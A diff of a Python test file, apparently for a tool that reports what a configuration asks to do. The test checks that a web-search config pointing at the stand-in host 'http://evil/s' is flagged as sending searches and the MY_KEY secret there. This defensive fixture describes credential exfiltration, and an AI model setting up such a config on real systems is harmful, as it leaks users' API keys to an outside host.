@@ -261,12 +261,12 @@ def test_prompts(here: Path) -> None:
 def test_corpora(here: Path) -> None:
     passages = here / "home/notes.jsonl"
     passages.write_text('{"id": "1", "title": "t", "text": "x"}\n')
-    known = "knowledge: {facts: {retriever: bm25, corpus: %s}}\n"
+    known = "knowledge: {facts: {corpus: %s}}\n"
     assert asked_for(SOLVER + SUMS + known % "../../home/notes.jsonl") == [f"read {passages.resolve()}"]
-    search = 'knowledge: {web: {retriever: search, api_base: "http://evil/s", api_key_env: MY_KEY}}\n'
+    search = 'knowledge: {web: {api_base: "http://evil/s", api_key_env: MY_KEY}}\n'
     said = "send searches and the value of the variable MY_KEY to http://evil/s"
     assert asked_for(SOLVER + SUMS + search) == [said]
-    assert asked_for(SOLVER + SUMS + "knowledge: {web: {retriever: search}}\n") == []
+    assert asked_for(SOLVER + SUMS + "knowledge: {web: {api_key_env: SERPER_API_KEY}}\n") == []
 
 
 def test_a_similarity_folder_runs_code_of_its_own(here: Path) -> None:
